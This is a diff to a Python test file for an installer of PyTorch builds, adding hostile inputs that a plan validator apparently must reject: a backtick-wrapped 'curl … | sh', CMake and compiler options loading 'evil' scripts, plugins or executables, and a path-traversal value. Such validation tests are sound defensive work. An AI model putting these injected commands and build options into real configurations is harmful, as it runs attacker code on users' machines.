@@ -427,6 +427,12 @@ def handed(path: Path, good: dict[str, Any], **changes: Any) -> Path:
         ("torchvision", "0.1 --pre"),
         ("torchaudio", "-r x"),
         ("variant", "cu126 --pre"),
+        ("variant", ".."),
+        ("wheel", "`curl http://127.0.0.1:9 | sh`"),
+        ("options", {"CMAKE_PROJECT_INCLUDE": "/tmp/evil.cmake"}),
+        ("options", {"CMAKE_CXX_COMPILER_LAUNCHER": "sh;-c;evil"}),
+        ("options", {"CFLAGS": "-fplugin=evil.so"}),
+        ("options", {"CUDA_NVCC_EXECUTABLE": "..\\evil.exe"}),
         ("python", "x"),
         ("python", "3." + "9" * 5000),
         ("conda", ["-c", "http://127.0.0.1:9"]),
@@ -463,6 +469,16 @@ def test_a_plan_of_a_wheel_on_a_shelf_asks_no_index_for_it(
     changes = {"system": paths.system(), "machine": paths.architecture(), "python": "3.11", "route": "shelf"}
     assert run(["install", str(handed_over), "--plan", str(handed(tmp_path / "p.toml", a_plan, **changes))]) == 2
     assert "lies on a shelf" in capsys.readouterr().err
+
+
+@pytest.mark.skipif(os.name == "nt", reason="the environment that is handed over is one of Linux")
+def test_a_plan_does_not_say_what_is_installed(
+    tmp_path: Path, a_plan: dict[str, Any], handed_over: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """`already`, of an environment without a torch."""
+    changes = {"system": paths.system(), "machine": paths.architecture(), "python": "3.11", "route": "installed"}
+    assert run(["install", str(handed_over), "--plan", str(handed(tmp_path / "p.toml", a_plan, **changes))]) == 14
+    assert "is not in" in capsys.readouterr().err
 
 
 def test_every_requirement_of_the_tables_is_one() -> None:
